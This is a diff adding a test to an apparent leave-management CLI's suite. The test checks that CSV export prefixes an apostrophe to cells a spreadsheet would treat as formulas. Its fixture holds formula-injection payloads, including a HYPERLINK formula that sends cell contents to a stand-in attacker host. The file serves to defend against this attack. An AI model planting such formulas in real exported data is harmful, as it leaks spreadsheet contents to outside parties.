@@ -124,6 +124,54 @@ describe("leaveapi fetch", () => {
     expect(existsSync(output)).toBe(false);
   }, 30_000);
 
+  test("CSV cells a spreadsheet would run as formulas get a leading ', and the file imports back unchanged", async () => {
+    // An organisation of its own, so that the other tests' counts stand.
+    const other = (await runJson<{ id: string }>([...db, "org", "create", "--name", "Formula Ltd"])).id;
+    await runJson([...db, "org", "enable-api", other]);
+    const creds = await runJson<{ client_id: string; client_secret: string }>([...db, "credentials", "create", "--org", other]);
+    const hostile = {
+      external_id: "F1",
+      first_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      last_name: "+1-555-0100",
+      preferred_name: "@SUM(A1:A9)",
+      job_title: "-",
+      department: "\tOps",
+      status: "active",
+      start_date: "2026-01-05",
+      holiday_calendar: "GB-ENG",
+    };
+    const plain = { external_id: "F2", first_name: "Ada", last_name: "'t Hooft", preferred_name: "'=already quoted", job_title: "A-Team lead", department: "R&D", status: "active", start_date: "2026-02-01" };
+    const source = join(scratch.dir, "formulas.jsonl");
+    writeFileSync(source, `${JSON.stringify(hostile)}\n${JSON.stringify(plain)}\n`);
+    await runJson([...db, "import", "--org", other, "--kind", "employees", source]);
+
+    const output = join(scratch.dir, "formulas.csv");
+    const result = await runCli(["fetch", "--url", server.baseUrl, "employees", "--format", "csv", "--output", output], {
+      env: { LEAVEAPI_CLIENT_ID: creds.client_id, LEAVEAPI_CLIENT_SECRET: creds.client_secret },
+    });
+    expect(result.code).toBe(0);
+    const rows = parse(readFileSync(output, "utf8"), { columns: true }) as Record<string, string>[];
+    const byName = (first: string) => rows.find((r) => r.first_name === first || r.first_name === `'${first}`)!;
+    expect(byName(hostile.first_name)).toMatchObject({
+      first_name: `'${hostile.first_name}`,
+      last_name: "'+1-555-0100",
+      preferred_name: "'@SUM(A1:A9)",
+      job_title: "'-",
+      department: "'\tOps",
+      // Ids, dates, statuses and calendar keys never start with such a character: as they are.
+      status: "active",
+      start_date: "2026-01-05",
+      holiday_calendar: "GB-ENG",
+    });
+    expect(byName(hostile.first_name).id).toMatch(/^[0-9a-f-]{36}$/);
+    expect(byName("Ada")).toMatchObject({ last_name: "'t Hooft", preferred_name: "''=already quoted", job_title: "A-Team lead", department: "R&D" });
+    // Not a cell of the file starts with a formula character.
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
+
+    const again = await runJson<{ unchanged: number; updated: number }>([...db, "import", "--org", other, "--kind", "employees", output]);
+    expect(again).toMatchObject({ unchanged: 2, updated: 0 });
+  }, 30_000);
+
   test("a server that is not there exits 1 with one line", async () => {
     const result = await runCli(["fetch", "--url", "http://127.0.0.1:1", "employees"], { env });
     expect(result.code).toBe(1);
